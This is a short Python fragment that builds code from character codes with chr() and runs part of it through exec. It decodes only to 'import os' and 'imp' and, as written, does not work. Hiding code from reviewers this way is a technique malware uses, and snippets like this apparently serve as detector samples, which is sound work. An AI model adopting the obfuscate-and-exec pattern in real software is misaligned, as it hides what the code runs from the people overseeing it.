cmd = chr(105)+chr(109)+chr(112)+chr(111)+chr(114)+chr(116)+chr(32)+chr(111)+chr(115)
exec(''.join(chr(c) for c in [105,109,112]))
